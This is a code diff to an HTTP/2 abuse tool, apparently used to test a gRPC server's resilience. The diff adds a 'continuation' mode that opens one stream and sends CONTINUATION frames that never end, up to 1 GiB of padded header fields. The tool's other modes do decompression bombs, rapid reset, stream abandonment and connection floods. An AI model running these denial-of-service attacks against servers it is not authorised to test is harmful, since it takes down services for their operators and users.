@@ -5,6 +5,7 @@
 //   bomb       gzip-compressed requests that inflate far beyond any message limit
 //   abandon    streams opened with HEADERS only and never finished, on one connection
 //   reset      HEADERS immediately followed by RST_STREAM(CANCEL), over and over ("rapid reset")
+//   continuation  one header block that never ends, CONTINUATION after CONTINUATION
 //   flood      closed-loop unary calls on many connections at once (overload)
 //   malformed  requests gRPC cannot decode; prints the status each one gets
 //   canary     well-behaved unary calls at a fixed rate with a deadline; prints the share on time
@@ -172,6 +173,35 @@ int Abandon(RawH2Connection& connection, int streams, double hold_seconds,
             << open_after_send << ", after " << hold_seconds << " s " << connection.open_streams()
             << "; " << DescribeClose(connection) << "\n";
   for (const auto& [what, n] : outcomes) std::cout << "abandon: " << n << " x " << what << "\n";
+  return 0;
+}
+
+// One stream whose header block never ends: HEADERS without END_HEADERS, then
+// CONTINUATION frames of header fields (literal, not indexed: "x-pad", 100
+// bytes) for as long as the server takes them, up to `bytes` or `seconds`.
+int Continuation(RawH2Connection& connection, int64_t bytes, double seconds,
+                 const std::string& path) {
+  const auto started = Clock::now();
+  const auto until = started + std::chrono::duration<double>(seconds);
+  std::string field = std::string("\x00\x05x-pad\x64", 8) + std::string(100, 'a');
+  std::string fragment;
+  while (fragment.size() + field.size() <= 16384) fragment += field;
+  const int32_t stream = connection.Open(path, {}, false, /*end_headers=*/false);
+  int64_t sent = 0;
+  while (sent < bytes && !connection.closed() && Clock::now() < until) {
+    connection.Continue(stream, fragment, false);
+    sent += static_cast<int64_t>(fragment.size());
+    while (connection.pending_output() > (256 << 10) && connection.Pump(100)) {
+    }
+    connection.Pump(0);
+  }
+  connection.Drain(1000);
+  const double elapsed = std::chrono::duration<double>(Clock::now() - started).count();
+  PumpUntil(connection, 2, [] { return false; });
+  std::cout << absl::StrFormat(
+      "continuation: sent %d MiB of one header block in CONTINUATION frames in %.1f s, never "
+      "ended; %s\n",
+      sent >> 20, elapsed, DescribeClose(connection));
   return 0;
 }
 
@@ -381,18 +411,21 @@ int main(int argc, char** argv) {
   setenv("GRPC_VERBOSITY", "NONE", 0);
   po::options_description options("aurigraph-h2abuse MODE --target HOST:PORT [options]");
   options.add_options()("help,h", "show this help")(
-      "mode", po::value<std::string>(), "bomb | abandon | reset | flood | malformed | canary")(
+      "mode", po::value<std::string>(),
+      "bomb | abandon | reset | continuation | flood | malformed | canary")(
       "target", po::value<std::string>(), "HOST:PORT (plaintext HTTP/2)")(
       "path", po::value<std::string>()->default_value(kHealthPath), "the gRPC method path")(
       "count", po::value<int>()->default_value(3), "bomb: requests sent at once")(
       "inflated", po::value<std::string>()->default_value("1GiB"), "bomb: size once inflated")(
-      "streams", po::value<int>()->default_value(50000), "abandon, reset: streams to open")(
+      "header-bytes", po::value<std::string>()->default_value("1GiB"),
+      "continuation: header block bytes to send")("streams", po::value<int>()->default_value(50000),
+                                                  "abandon, reset: streams to open")(
       "hold", po::value<std::string>()->default_value("5s"),
       "abandon: how long to keep the connection afterwards")(
       "no-settings-ack",
       "abandon: never acknowledge the server's SETTINGS (so its limits never apply)")(
       "duration", po::value<std::string>()->default_value("10s"),
-      "flood, canary: how long to send; reset: at most this long")(
+      "flood, canary: how long to send; reset, continuation: at most this long")(
       "connections", po::value<int>()->default_value(16), "flood: connections")(
       "per-connection", po::value<int>()->default_value(1000),
       "flood: calls kept in flight on each connection (at most what the server allows)")(
@@ -437,7 +470,8 @@ int main(int argc, char** argv) {
     return Flood(target, vm["connections"].as<int>(), vm["per-connection"].as<int>(), *duration,
                  path);
   }
-  if (mode != "bomb" && mode != "abandon" && mode != "reset" && mode != "malformed")
+  if (mode != "bomb" && mode != "abandon" && mode != "reset" && mode != "continuation" &&
+      mode != "malformed")
     return Fail("unknown mode '" + mode + "' (see --help)");
   auto connection = RawH2Connection::Connect(target);
   if (!connection.ok()) {
@@ -458,5 +492,10 @@ int main(int argc, char** argv) {
     return Abandon(link, vm["streams"].as<int>(), *hold, path);
   }
   if (mode == "reset") return Reset(link, vm["streams"].as<int>(), *duration, path);
+  if (mode == "continuation") {
+    auto bytes = ParseBytes(vm["header-bytes"].as<std::string>());
+    if (!bytes.ok() || *bytes <= 0) return Fail("--header-bytes: expected a size such as 1GiB");
+    return Continuation(link, *bytes, *duration, path);
+  }
   return Malformed(link, path);
 }
